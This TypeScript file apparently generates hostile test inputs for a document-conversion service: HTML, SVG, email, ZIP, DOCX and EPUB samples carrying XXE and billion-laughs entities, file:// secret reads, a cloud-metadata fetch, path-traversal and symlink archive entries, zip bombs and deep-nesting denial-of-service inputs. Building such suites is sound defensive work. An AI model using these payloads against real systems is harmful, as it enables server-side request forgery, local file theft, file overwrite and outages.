import { makeZip, type ZipEntry } from '../../test/http/support/zip.js';
import type { HostileFile } from './hostile-pdfs.js';

interface Aims {
  readonly listener: string;
  readonly secretFile: string;
  readonly dropFolder: string;
}

/** Markup with every usual way of fetching something. */
function fetching({ listener, secretFile }: Aims): string {
  const at = (name: string): string => `${listener}/${name}`;
  return `<!doctype html><html><head><base href="${at('base/')}"><link rel="stylesheet" href="${at('link.css')}">
<link rel="preconnect" href="${listener}"><link rel="prefetch" href="${at('prefetch')}">
<meta http-equiv="refresh" content="0;url=file://${secretFile}">
<style>@import url(${at('import.css')}); @font-face{font-family:x;src:url(${at('font.woff2')})}
body{background:url('${at('body.png')}');font-family:x}</style>
<script src="${at('script.js')}"></script>
<script>fetch('${at('fetch')}');fetch('file://${secretFile}').then(t=>t.text()).then(t=>document.write(t))</script>
</head><body onload="fetch('${at('onload')}')"><p>Words</p><img src="${at('img.png')}" onerror="fetch('${at('error')}')">
<iframe src="file://${secretFile}"></iframe><iframe src="${at('frame')}"></iframe>
<object data="file://${secretFile}"></object><embed src="${at('embed')}"><video src="${at('video')}"></video>
<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg.png')}"/><use href="${at('use.svg#a')}"/></svg>
<iframe src="http://169.254.169.254/latest/meta-data/"></iframe></body></html>`;
}

function markup(aims: Aims): HostileFile[] {
  const html = fetching(aims);
  const page = (title: string, text: () => string): HostileFile => ({
    name: 'page.html',
    title,
    bytes: () => Buffer.from(text()),
  });
  return [
    page('a page that fetches', () => html),
    page('a page that never ends', () => '<script>for(;;);</script><p>Words'),
    page('elements 20,000 deep', () => '<div>'.repeat(20_000)),
    page('a table of a million cells', () => `<table><tr>${'<td>x'.repeat(1_000_000)}</table>`),
    page(
      'a page that redirects to a file',
      () => `<meta http-equiv=refresh content="0;url=file://${aims.secretFile}">`,
    ),
    {
      name: 'notes.md',
      title: 'Markdown that fetches',
      bytes: () => Buffer.from(`# A\n\n![x](${aims.listener}/md)\n\n${html}`),
    },
    { name: 'notes.md', title: 'Markdown nested 10,000 deep', bytes: () => Buffer.from(`${'> '.repeat(10_000)}x`) },
    { name: 'notes.md', title: 'Markdown with 50,000 brackets', bytes: () => Buffer.from('[a]('.repeat(50_000)) },
  ];
}

/** XML with entities that are files, addresses, or grow. */
function entities({ listener, secretFile }: Aims, root: string): string {
  const growing = Array.from(
    { length: 10 },
    (_unused, i) => `<!ENTITY g${i} "${(i === 0 ? 'lol' : `&g${i - 1};`).repeat(10)}">`,
  ).join('');
  return (
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file://${secretFile}"><!ENTITY h SYSTEM "${listener}/xxe">` +
    `<!ENTITY % p SYSTEM "${listener}/parameter.dtd">%p;${growing}]>` +
    root.replace('…', '&f;&h;&g9;')
  );
}

function drawings(aims: Aims): HostileFile[] {
  const { listener, secretFile } = aims;
  const svg = (title: string, text: () => string): HostileFile => ({
    name: 'drawing.svg',
    title,
    bytes: () => Buffer.from(text()),
  });
  const root =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">…</svg>';
  return [
    svg('a drawing with entities', () => entities(aims, root.replace('…', '<text>…</text>'))),
    svg('a drawing that fetches', () =>
      root.replace(
        '…',
        `<image href="${listener}/a"/><image xlink:href="file://${secretFile}" width="9" height="9"/><image ` +
          `href="${secretFile}"/><use href="${listener}/b#c"/><style>@import url(${listener}/css)</style>` +
          `<script>fetch('${listener}/js')</script><foreignObject><iframe src="file://${secretFile}"/></foreignObject>`,
      ),
    ),
    svg('a drawing that uses itself', () => {
      const uses = Array.from(
        { length: 12 },
        (_unused, i) => `<g id="g${i}">${`<use href="#g${i + 1}"/>`.repeat(10)}</g>`,
      ).join('');
      return root.replace('…', `<defs>${uses}<g id="g12"><rect width="1" height="1"/></g></defs><use href="#g0"/>`);
    }),
    svg('a drawing of a billion units', () => root.replaceAll('"9"', '"1000000000"').replace('…', '<rect/>')),
    svg('elements 30,000 deep', () => root.replace('…', `${'<g>'.repeat(30_000)}${'</g>'.repeat(30_000)}`)),
    {
      name: 'image.png',
      title: 'an image of 60,000 by 60,000 pixels',
      bytes: () => Buffer.from('89504e470d0a1a0a0000000d494844520000ea600000ea60080600000000000000', 'hex'),
    },
    { name: 'image.png', title: 'a web page called an image', bytes: () => Buffer.from(fetching(aims)) },
    {
      name: 'photo.jpg',
      title: 'a drawing called a photo',
      bytes: () => Buffer.from(entities(aims, root.replace('…', '<text>…</text>'))),
    },
  ];
}

function mails(aims: Aims): HostileFile[] {
  const head = 'From: a@a.test\r\nTo: b@b.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n';
  const mail = (title: string, text: () => string): HostileFile => ({
    name: 'letter.eml',
    title,
    bytes: () => Buffer.from(text()),
  });
  return [
    mail('a mail that fetches', () => `${head}Content-Type: text/html\r\n\r\n${fetching(aims)}`),
    mail('parts 5,000 deep', () => {
      const opened = Array.from(
        { length: 5000 },
        (_unused, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`,
      ).join('');
      return `${head}${opened}\r\nx`;
    }),
    mail(
      'an attachment with a name that leads elsewhere',
      () =>
        `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n` +
        `Content-Disposition: attachment; filename="../../../../../..${aims.dropFolder}/PWNED-mail"\r\n\r\nx\r\n--b--\r\n`,
    ),
    mail('a hundred thousand header lines', () => `${'X-A: b\r\n'.repeat(100_000)}\r\nx`),
  ];
}

function zip(name: string, title: string, entries: () => readonly ZipEntry[]): HostileFile {
  return { name, title, bytes: () => makeZip(entries()) };
}

const entry = (name: string, text: string | Uint8Array, mode?: number): ZipEntry => ({
  name,
  bytes: typeof text === 'string' ? Buffer.from(text) : text,
  ...(mode === undefined ? {} : { mode }),
});
const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType=' +
  '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml' +
  '.document.main+xml"/></Types>';
const RELATIONS = (target: string, more = ''): string =>
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http:' +
  `//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>${more}</Relationships>`;

/** Archives, and documents that are archives. */
function archives(aims: Aims): HostileFile[] {
  const { listener, secretFile, dropFolder } = aims;
  const link = 0o120777;
  const external = (kind: string, target: string): string =>
    `<Relationship Id="x${kind}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ` +
    `TargetMode="External" Target="${target}"/>`;
  const word =
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>…</w:t></w:r></w:p></w:body></w:document>';
  return [
    zip('site.zip', 'names that lead elsewhere', () => [
      entry('index.html', '<p>x'),
      entry(`../../../../../../..${dropFolder}/PWNED-up`, 'x'),
      entry(`${dropFolder}/PWNED-absolute`, 'x'),
      entry('..\\..\\PWNED-back', 'x'),
      entry('C:\\PWNED-drive', 'x'),
    ]),
    zip('site.zip', 'a link out of the archive', () => [
      entry('link', dropFolder, link),
      entry('link/PWNED-link', 'x'),
      entry('index.html', secretFile, link),
    ]),
    zip('site.zip', 'a bomb of 128 MB', () => [
      entry('index.html', '<p>x'),
      ...Array.from({ length: 8 }, (_unused, i) => entry(`z${i}.bin`, new Uint8Array(16 * 1024 * 1024))),
    ]),
    zip('site.zip', 'fifty thousand entries', () =>
      Array.from({ length: 50_000 }, (_unused, i) => entry(i === 0 ? 'index.html' : `f${i}`, '')),
    ),
    zip('site.zip', 'sizes that are lies', () => [{ ...entry('index.html', 'x'.repeat(100_000)), declaredSize: 1 }]),
    zip('site.zip', 'a page that fetches', () => [entry('index.html', fetching(aims))]),
    zip('letter.docx', 'a letter with entities', () => [
      entry('[Content_Types].xml', TYPES),
      entry('_rels/.rels', RELATIONS('word/document.xml')),
      entry('word/document.xml', entities(aims, word)),
    ]),
    zip('letter.docx', 'a letter with outer parts', () => [
      entry('[Content_Types].xml', TYPES),
      entry('_rels/.rels', RELATIONS('word/document.xml')),
      entry('word/document.xml', word.replace('…', 'Words')),
      entry(
        'word/_rels/document.xml.rels',
        RELATIONS(
          'x',
          external('image', `${listener}/docx.png`) +
            external('attachedTemplate', `file://${secretFile}`) +
            external('oleObject', `${listener}/ole`) +
            external('frame', `file://${secretFile}`),
        ),
      ),
    ]),
    zip('letter.docx', 'a letter of 128 MB', () => [
      entry('[Content_Types].xml', TYPES),
      entry('_rels/.rels', RELATIONS('word/document.xml')),
      entry('word/document.xml', new Uint8Array(128 * 1024 * 1024).fill(0x20)),
    ]),
    zip('book.epub', 'a book with entities', () => [
      entry('mimetype', 'application/epub+zip'),
      entry('META-INF/container.xml', entities(aims, '<container><rootfiles>…</rootfiles></container>')),
    ]),
    zip('comic.cbz', 'pages that lead elsewhere', () => [
      entry(`../../../../../..${dropFolder}/PWNED-comic.png`, 'x'),
      entry('1.png', secretFile, link),
    ]),
  ];
}

/** Hostile files that are not PDFs. */
export function hostileFiles(aims: Aims): readonly HostileFile[] {
  return [...markup(aims), ...drawings(aims), ...mails(aims), ...archives(aims)];
}
